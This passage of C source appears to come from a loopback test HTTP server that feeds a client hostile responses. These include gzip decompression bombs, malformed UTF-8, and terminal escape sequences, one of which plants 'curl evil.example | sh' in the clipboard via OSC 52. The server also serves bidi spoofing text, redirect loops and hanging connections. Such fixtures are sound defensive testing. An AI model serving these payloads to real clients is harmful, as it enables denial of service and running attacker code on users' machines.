		if (ci != NULL && peer_closed(ci->connect_fd))
			break;
	return MHD_NO;
}

/* Gzip bombs. */

/* A gzip member of HTTPD_BOMB_SIZE zero bytes into *out.  Deflate's best
 * is about 1032:1, so it is about 1 MiB: one block of 1 MiB of zeros,
 * compressed from a fresh state and ended by a full flush, is
 * byte-aligned and refers only to itself, so the same bytes can be
 * repeated 1024 times; a final empty block and the trailer close it.
 * Returns 0, or -1 when out of memory. */
static int
bomb_build(char **out, size_t *outlen)
{
	static const unsigned char gzip_head[10] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3 };
	const size_t chunk = 1u << 20, repeats = (size_t)(HTTPD_BOMB_SIZE / (1u << 20));
	unsigned char *zeros = NULL, block[4096], end[64], trailer[8];
	size_t block_len, end_len, i;
	struct text t = { 0 };
	uLong crc, crc_chunk;
	uint32_t isize = (uint32_t)(HTTPD_BOMB_SIZE & 0xffffffffu);
	z_stream z;
	int rc = -1;

	memset(&z, 0, sizeof(z));
	zeros = calloc(chunk, 1);
	if (zeros == NULL || deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) != Z_OK)
		goto out;
	z.next_in = zeros;
	z.avail_in = (uInt)chunk;
	z.next_out = block;
	z.avail_out = sizeof(block);
	if (deflate(&z, Z_FULL_FLUSH) != Z_OK || z.avail_in != 0 || z.avail_out == 0)
		goto done;
	block_len = sizeof(block) - z.avail_out;
	z.next_out = end;
	z.avail_out = sizeof(end);
	if (deflate(&z, Z_FINISH) != Z_STREAM_END)
		goto done;
	end_len = sizeof(end) - z.avail_out;

	crc_chunk = crc32(0L, zeros, (uInt)chunk);
	crc = crc_chunk;
	for (i = 1; i < repeats; i++)
		crc = crc32_combine(crc, crc_chunk, (z_off_t)chunk);
	for (i = 0; i < 4; i++) {
		trailer[i] = (unsigned char)(crc >> (8 * i));
		trailer[4 + i] = (unsigned char)(isize >> (8 * i));
	}
	text_add(&t, gzip_head, sizeof(gzip_head));
	for (i = 0; i < repeats; i++)
		text_add(&t, block, block_len);
	text_add(&t, end, end_len);
	text_add(&t, trailer, sizeof(trailer));
	if (!t.failed) {
		*out = t.s;
		*outlen = t.len;
		rc = 0;
	}
done:
	deflateEnd(&z);
out:
	free(zeros);
	return rc;
}

static enum MHD_Result
respond_bomb(struct request *rq, int stacked)
{
	const char *headers[] = { MHD_HTTP_HEADER_CONTENT_ENCODING, stacked ? "gzip, gzip" : "gzip",
				  NULL };
	struct httpd *h = rq->h;
	const char *body;
	size_t len;
	int failed = 0;

	pthread_mutex_lock(&h->bomb_lock);
	if (h->bomb == NULL && bomb_build(&h->bomb, &h->bomb_len) != 0)
		failed = 1;
	if (!failed && stacked && h->bomb_stacked == NULL) {
		h->bomb_stacked = zlib_compress(h->bomb, h->bomb_len, 1, 9, &h->bomb_stacked_len);
		failed = h->bomb_stacked == NULL;
	}
	body = stacked ? h->bomb_stacked : h->bomb;
	len = stacked ? h->bomb_stacked_len : h->bomb_len;
	pthread_mutex_unlock(&h->bomb_lock);
	if (failed)
		return respond_status(rq, MHD_HTTP_INTERNAL_SERVER_ERROR, "cannot build the bomb");
	return respond(rq, MHD_HTTP_OK, body, len, HTML_TYPE, headers);
}

static enum MHD_Result
serve_gzip_bomb(struct request *rq, const char *rest)
{
	(void)rest;
	return respond_bomb(rq, 0);
}

static enum MHD_Result
serve_gzip_bomb_stacked(struct request *rq, const char *rest)
{
	(void)rest;
	return respond_bomb(rq, 1);
}

/* Hostile text. */

static const char invalid_utf8_html[] =
	"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Terms of service</title>"
	"</head>\n<body><h1>Terms of service</h1>\n"
	"<p>A lone continuation byte: \x80 here.</p>\n"
	"<p>An overlong slash: \xc0\xaf and an overlong NUL: \xc0\x80.</p>\n"
	"<p>A truncated euro sign: \xe2\x82 then text.</p>\n"
	"<p>A UTF-16 surrogate: \xed\xa0\x80.</p>\n"
	"<p>Bytes that never occur: \xfe\xff.</p>\n"
	"<p>Beyond U+10FFFF: \xf4\x90\x80\x80.</p>\n"
	"<p>Valid text after all of it: caf\xc3\xa9.</p>\n"
	"</body></html>\n";

/* Escape sequences a terminal would obey, and NUL bytes; the length comes
 * from sizeof, not strlen. */
static const char escapes_html[] =
	"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Terms\x1b[2J of service"
	"</title></head>\n<body><h1>Terms of service \x1b[31min red\x1b[0m</h1>\n"
	"<p>Clear the screen: \x1b[2J\x1b[H and the scrollback: \x1b[3J.</p>\n"
	"<p>Write the clipboard: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 done.</p>\n"
	"<p>Set the title: \x1b]0;pwned\x1b\\ and a link: \x1b]8;;http://evil.example/\x1b\\"
	"here\x1b]8;;\x1b\\.</p>\n"
	"<p>C1 controls as UTF-8: \xc2\x9b" "2J, \xc2\x9d" "52;c;eA==\xc2\x9c, and raw: \x9b"
	"2J.</p>\n"
	"<p>Bidi overrides: \xe2\x80\xae" "exe.txt\xe2\x80\xac and isolates: \xe2\x81\xa6"
	"x\xe2\x81\xa9.</p>\n"
	"<p>NUL bytes: [\0] and [\0].</p>\n"
	"</body></html>\n";

static enum MHD_Result
serve_invalid_utf8(struct request *rq, const char *rest)
{
	(void)rest;
	return respond(rq, MHD_HTTP_OK, invalid_utf8_html, sizeof(invalid_utf8_html) - 1,
		       HTML_TYPE, NULL);
}

static enum MHD_Result
serve_escapes(struct request *rq, const char *rest)
{
	(void)rest;
	return respond(rq, MHD_HTTP_OK, escapes_html, sizeof(escapes_html) - 1, HTML_TYPE, NULL);
}

/* Statuses. */

static enum MHD_Result
serve_status(struct request *rq, const char *rest)
{
	long long n;

	if (parse_integer(rest, &n) != 0 || n < 400 || n > 599)
		return respond_status(rq, MHD_HTTP_NOT_FOUND, "status must be 400 to 599");
	return respond_status(rq, (unsigned)n, "the status asked for");
}

/* The first request to this path gets status, the next ones a page. */
static enum MHD_Result
serve_once(struct request *rq, const char *rest, unsigned status)
{
	const char *headers[] = { MHD_HTTP_HEADER_RETRY_AFTER, "1", NULL };
	char page[256];
	struct path_log *log;
	unsigned hits;
	long long n = status;

	if (rest != NULL && parse_integer(rest, &n) != 0)
		return respond_status(rq, MHD_HTTP_NOT_FOUND, "no such counter");
	pthread_mutex_lock(&rq->h->lock);
	log = log_of(rq->h, rq->url, 0);
	hits = log != NULL ? log->hits : 0;
	pthread_mutex_unlock(&rq->h->lock);
	if (hits > 1)
		return respond_doc_page(rq, n);
	snprintf(page, sizeof(page), "<!DOCTYPE html>\n<html><body><h1>%u</h1><p>Try again in a "
		 "second.</p></body></html>\n", status);
	return respond(rq, status, page, strlen(page), HTML_TYPE, headers);
}

static enum MHD_Result
serve_429(struct request *rq, const char *rest)
{
	return serve_once(rq, rest, MHD_HTTP_TOO_MANY_REQUESTS);
}

static enum MHD_Result
serve_429_first(struct request *rq, const char *rest)
{
	(void)rest;
	return serve_once(rq, NULL, MHD_HTTP_TOO_MANY_REQUESTS);
}

static enum MHD_Result
serve_503(struct request *rq, const char *rest)
{
	return serve_once(rq, rest, MHD_HTTP_SERVICE_UNAVAILABLE);
}

static enum MHD_Result
serve_503_first(struct request *rq, const char *rest)
{
	(void)rest;
	return serve_once(rq, NULL, MHD_HTTP_SERVICE_UNAVAILABLE);
}

/* Other media. */

/* A one-page PDF 1.4 whose page shows sentence in Helvetica, with an
 * exact cross-reference table.  malloc'd, NULL when out of memory. */
static char *
pdf_build(const char *sentence, size_t *len)
{
	struct text t = { 0 }, content = { 0 };
	size_t offsets[6], xref, i;
	const char *p;

	text_add(&content, "BT /F1 14 Tf 72 720 Td (", 24);
	for (p = sentence; *p != '\0'; p++) {
		if (*p == '(' || *p == ')' || *p == '\\')
			text_add(&content, "\\", 1);
		text_add(&content, p, 1);
	}
	text_add(&content, ") Tj ET\n", 8);
	if (content.failed)
		return NULL;

	text_printf(&t, "%%PDF-1.4\n%%\xe2\xe3\xcf\xd3\n");
	offsets[1] = t.len;
	text_printf(&t, "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
	offsets[2] = t.len;
	text_printf(&t, "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
	offsets[3] = t.len;
	text_printf(&t, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
		    "/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>\nendobj\n");
	offsets[4] = t.len;
	text_printf(&t, "4 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
		    "/Encoding /WinAnsiEncoding >>\nendobj\n");
	offsets[5] = t.len;
	text_printf(&t, "5 0 obj\n<< /Length %zu >>\nstream\n", content.len);
	text_add(&t, content.s, content.len);
	text_printf(&t, "endstream\nendobj\n");
	xref = t.len;
	text_printf(&t, "xref\n0 6\n0000000000 65535 f \n");
	for (i = 1; i < 6; i++)
		text_printf(&t, "%010zu 00000 n \n", offsets[i]);
	text_printf(&t, "trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%zu\n%%%%EOF\n", xref);
	free(content.s);
	if (t.failed)
		return NULL;
	*len = t.len;
	return t.s;
}

static enum MHD_Result
serve_pdf(struct request *rq, const char *rest)
{
	enum MHD_Result ret;
	size_t len;
	char *pdf = pdf_build(HTTPD_PDF_SENTENCE, &len);

	(void)rest;
	if (pdf == NULL)
		return MHD_NO;
	ret = respond_hashed(rq, pdf, len, "application/pdf", DOC_LAST_MODIFIED, NULL);
	free(pdf);
	return ret;
}

static enum MHD_Result
serve_binary(struct request *rq, const char *rest)
{
	uint64_t x = 0x9e3779b97f4a7c15ull;
	enum MHD_Result ret;
	unsigned char *bytes = malloc(HTTPD_BINARY_SIZE);
	size_t i;

	(void)rest;
	if (bytes == NULL)
		return MHD_NO;
	/* xorshift64*: the same bytes every time, no pattern a parser could
	 * mistake for text. */
	for (i = 0; i < HTTPD_BINARY_SIZE; i++) {
		x ^= x >> 12;
		x ^= x << 25;
		x ^= x >> 27;
		bytes[i] = (unsigned char)((x * 0x2545f4914f6cdd1dull) >> 56);
	}
	ret = respond(rq, MHD_HTTP_OK, bytes, HTTPD_BINARY_SIZE, "application/octet-stream", NULL);
	free(bytes);
	return ret;
}

/* The routes, in the order they are tried. */
struct route {
	const char *path;	/* The whole path, or its start when prefix. */
	int prefix;		/* Whether path is a prefix: the rest goes to serve. */
	enum MHD_Result (*serve)(struct request *rq, const char *rest);
};

static const struct route routes[] = {
	{ .path = "/corpus/", .prefix = 1, .serve = serve_corpus },
	{ .path = "/doc/", .prefix = 1, .serve = serve_doc },
	{ .path = "/gzip/", .prefix = 1, .serve = serve_gzip },
	{ .path = "/deflate/", .prefix = 1, .serve = serve_deflate },
	{ .path = "/br/", .prefix = 1, .serve = serve_br },
	{ .path = "/redirect/loop", .serve = serve_redirect_loop },
	{ .path = "/redirect/chain/", .prefix = 1, .serve = serve_redirect_chain },
	{ .path = "/redirect/file", .serve = serve_redirect_file },
	{ .path = "/redirect/ftp", .serve = serve_redirect_ftp },
	{ .path = "/big", .serve = serve_big },
	{ .path = "/gzip-bomb", .serve = serve_gzip_bomb },
	{ .path = "/gzip-bomb/stacked", .serve = serve_gzip_bomb_stacked },
	{ .path = "/slow-drip", .serve = serve_slow_drip },
	{ .path = "/hang", .serve = serve_hang },
	{ .path = "/reset", .serve = serve_reset },
	{ .path = "/invalid-utf8", .serve = serve_invalid_utf8 },
	{ .path = "/escapes", .serve = serve_escapes },
	{ .path = "/status/", .prefix = 1, .serve = serve_status },
	{ .path = "/429", .serve = serve_429_first },
	{ .path = "/429/", .prefix = 1, .serve = serve_429 },
	{ .path = "/503-once", .serve = serve_503_first },
	{ .path = "/503-once/", .prefix = 1, .serve = serve_503 },
	{ .path = "/pdf", .serve = serve_pdf },
	{ .path = "/binary", .serve = serve_binary },
};

static enum MHD_Result
on_request(void *cls, struct MHD_Connection *conn, const char *url, const char *method,
	   const char *version, const char *upload_data, size_t *upload_data_size, void **con_cls)
{
	const char *allow[] = { MHD_HTTP_HEADER_ALLOW, "GET, HEAD", NULL };
	struct request rq = { .h = cls, .conn = conn, .url = url };
	enum MHD_Result ret;
	size_t i;

	(void)version;
	(void)upload_data;
	/* The first call only announces the request and the ones after bring
	 * its body, which no route wants; answering on the last call, once the
	 * request is read whole, lets libmicrohttpd keep the connection alive. */
	if (*con_cls == NULL) {
		*con_cls = rq.h;
		return MHD_YES;
	}
	if (*upload_data_size > 0) {
		*upload_data_size = 0;
		return MHD_YES;
	}
	if (record_request(rq.h, conn, url) != 0)
		return MHD_NO;
	if (rq.h->latency_ms > 0 && pause_ms(rq.h, rq.h->latency_ms) != 0)
		return MHD_NO;
	rq.head = strcmp(method, MHD_HTTP_METHOD_HEAD) == 0;
	if (strcmp(method, MHD_HTTP_METHOD_GET) != 0 && !rq.head)
		return respond(&rq, MHD_HTTP_METHOD_NOT_ALLOWED, "", 0, HTML_TYPE, allow);
	if (serve_put(&rq, &ret))
		return ret;
	for (i = 0; i < sizeof(routes) / sizeof(routes[0]); i++) {
		const struct route *r = &routes[i];
		size_t n = strlen(r->path);

		if (r->prefix ? strncmp(url, r->path, n) == 0 : strcmp(url, r->path) == 0)
			return r->serve(&rq, url + (r->prefix ? n : strlen(url)));
	}
	return respond_status(&rq, MHD_HTTP_NOT_FOUND, "no such page");
}

/* libmicrohttpd's messages go to h->log, not to the test's output. */
static void
on_log(void *cls, const char *fmt, va_list ap)
{
	struct httpd *h = cls;
	size_t n;

	pthread_mutex_lock(&h->lock);
	vsnprintf(h->log, sizeof(h->log), fmt, ap);
	n = strlen(h->log);
	while (n > 0 && (h->log[n - 1] == '\n' || h->log[n - 1] == '\r'))
		h->log[--n] = '\0';
	pthread_mutex_unlock(&h->lock);
}

/* Free what h holds, the daemon stopped already. */
static void
httpd_free(struct httpd *h)
{
	size_t i;

	for (i = 0; i < h->nlogs; i++) {
		free(h->logs[i].path);
		headers_free(h->logs[i].headers, h->logs[i].nheaders);
	}
	free(h->logs);
	for (i = 0; i < h->ndocs; i++) {
		free(h->docs[i].path);
		free(h->docs[i].body);
		free(h->docs[i].content_type);
	}
	free(h->docs);
	free(h->bomb);
	free(h->bomb_stacked);
	free(h->corpus_dir);
	pthread_cond_destroy(&h->wake);
	pthread_mutex_destroy(&h->lock);
	pthread_mutex_destroy(&h->bomb_lock);
	free(h);
}

struct httpd *
httpd_start(const struct httpd_options *opt, char *err, size_t errlen)
{
	const struct httpd_options none = { 0 };
	struct sockaddr_in addr;
	pthread_condattr_t attr;
	const union MHD_DaemonInfo *info;
	struct httpd *h;
	struct stat st;
	char html[4096];

	if (opt == NULL)
		opt = &none;
	if (opt->corpus_dir != NULL) {
		snprintf(html, sizeof(html), "%s/html", opt->corpus_dir);
		if (stat(html, &st) != 0) {
			snprintf(err, errlen, "httpd: corpus '%s': no html folder in it: %s",
				 opt->corpus_dir, strerror(errno));
			return NULL;
		}
		if (!S_ISDIR(st.st_mode)) {
			snprintf(err, errlen, "httpd: corpus '%s': html is not a folder",
				 opt->corpus_dir);
			return NULL;
		}
	}
	h = calloc(1, sizeof(*h));
	if (h == NULL) {
		snprintf(err, errlen, "httpd: out of memory");
		return NULL;
	}
	h->latency_ms = opt->latency_ms;
	if (opt->corpus_dir != NULL && (h->corpus_dir = strdup(opt->corpus_dir)) == NULL) {
		free(h);
		snprintf(err, errlen, "httpd: out of memory");
		return NULL;
	}
	pthread_mutex_init(&h->lock, NULL);
	pthread_mutex_init(&h->bomb_lock, NULL);
	/* A monotonic clock, so that a change of the wall clock cannot
	 * stretch a pause. */
	pthread_condattr_init(&attr);
	pthread_condattr_setclock(&attr, CLOCK_MONOTONIC);
	pthread_cond_init(&h->wake, &attr);
	pthread_condattr_destroy(&attr);

	memset(&addr, 0, sizeof(addr));
	addr.sin_family = AF_INET;
	addr.sin_port = 0;
	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	/* A thread per connection: a request that waits, on purpose or for
	 * latency_ms, holds up no other. */
	h->daemon = MHD_start_daemon(MHD_USE_THREAD_PER_CONNECTION | MHD_USE_POLL_INTERNAL_THREAD
				     | MHD_USE_ERROR_LOG, 0, NULL, NULL, on_request, h,
				     MHD_OPTION_SOCK_ADDR, (struct sockaddr *)&addr,
				     MHD_OPTION_CONNECTION_LIMIT, 1000u,
				     MHD_OPTION_EXTERNAL_LOGGER, on_log, h,
				     MHD_OPTION_END);
	if (h->daemon == NULL) {
		snprintf(err, errlen, "httpd: cannot listen on 127.0.0.1: %s",
			 h->log[0] != '\0' ? h->log : "libmicrohttpd gave no reason");
		httpd_free(h);
		return NULL;
	}
	info = MHD_get_daemon_info(h->daemon, MHD_DAEMON_INFO_BIND_PORT);
	if (info == NULL || info->port == 0) {
		snprintf(err, errlen, "httpd: cannot tell which port 127.0.0.1 listens on");
		MHD_stop_daemon(h->daemon);
		httpd_free(h);
		return NULL;
	}
	h->port = info->port;
	return h;
}

void
httpd_stop(struct httpd *h)
{
	if (h == NULL)
		return;
	pthread_mutex_lock(&h->lock);
	h->stopping = 1;
	pthread_cond_broadcast(&h->wake);
	pthread_mutex_unlock(&h->lock);
	/* Every thread that waited has been woken and returns; this closes the
	 * connections and joins their threads. */
	MHD_stop_daemon(h->daemon);
	httpd_free(h);
}

unsigned short
httpd_port(const struct httpd *h)
{
	return h->port;
}

const char *
httpd_url(const struct httpd *h, const char *path, char *buf, size_t len)
{
	snprintf(buf, len, "http://127.0.0.1:%u%s", (unsigned)h->port, path);
	return buf;
}

int
httpd_put_at(struct httpd *h, const char *path, const char *body, size_t len,
	     const char *content_type, time_t last_modified)
{
	struct put_doc d = { .len = len, .last_modified = last_modified };
	size_t i;
	int rc = -1;

	d.path = strdup(path);
	d.body = malloc(len > 0 ? len : 1);
	d.content_type = strdup(content_type != NULL ? content_type : HTML_TYPE);
	if (d.path == NULL || d.body == NULL || d.content_type == NULL
	    || make_etag(body, len, d.etag) != 0)
		goto out;
	memcpy(d.body, body, len);

	pthread_mutex_lock(&h->lock);
	for (i = 0; i < h->ndocs; i++)
		if (strcmp(h->docs[i].path, path) == 0)
			break;
	if (i == h->ndocs && h->ndocs == h->docs_size) {
		size_t size = h->docs_size > 0 ? h->docs_size * 2 : 16;
		struct put_doc *grown = realloc(h->docs, size * sizeof(*grown));

		if (grown == NULL) {
			pthread_mutex_unlock(&h->lock);
			goto out;
		}
		h->docs = grown;
		h->docs_size = size;
	}
	if (i < h->ndocs) {
		/* Replace: the old one's memory goes with d below. */
		struct put_doc old = h->docs[i];

		h->docs[i] = d;
		d = old;
	} else {
		h->docs[h->ndocs++] = d;
		memset(&d, 0, sizeof(d));
	}
	pthread_mutex_unlock(&h->lock);
	rc = 0;
out:
	free(d.path);
	free(d.body);
	free(d.content_type);
	return rc;
}

int
httpd_put(struct httpd *h, const char *path, const char *body, size_t len,
	  const char *content_type)
{
	return httpd_put_at(h, path, body, len, content_type, time(NULL));
}

unsigned
httpd_hits(struct httpd *h, const char *path)
{
	const struct path_log *log;
	unsigned hits;

	pthread_mutex_lock(&h->lock);
	if (path == NULL) {
		hits = h->total_hits;
	} else {
		log = log_of(h, path, 0);
		hits = log != NULL ? log->hits : 0;
	}
	pthread_mutex_unlock(&h->lock);
	return hits;
}

int
httpd_last_header(struct httpd *h, const char *path, const char *name, char *buf, size_t len)
{
	const struct path_log *log;
	size_t i;
	int rc = -1;

	if (len > 0)
		buf[0] = '\0';
	pthread_mutex_lock(&h->lock);
	log = log_of(h, path, 0);
	if (log != NULL) {
		rc = 0;
		for (i = 0; i < log->nheaders; i++)
			if (strcasecmp(log->headers[i].name, name) == 0) {
				snprintf(buf, len, "%s", log->headers[i].value);
				break;
			}
	}
	pthread_mutex_unlock(&h->lock);
	return rc;
}

unsigned long long
httpd_body_bytes(struct httpd *h)
{
	unsigned long long n;

	pthread_mutex_lock(&h->lock);
	n = h->body_bytes;
	pthread_mutex_unlock(&h->lock);
	return n;
}
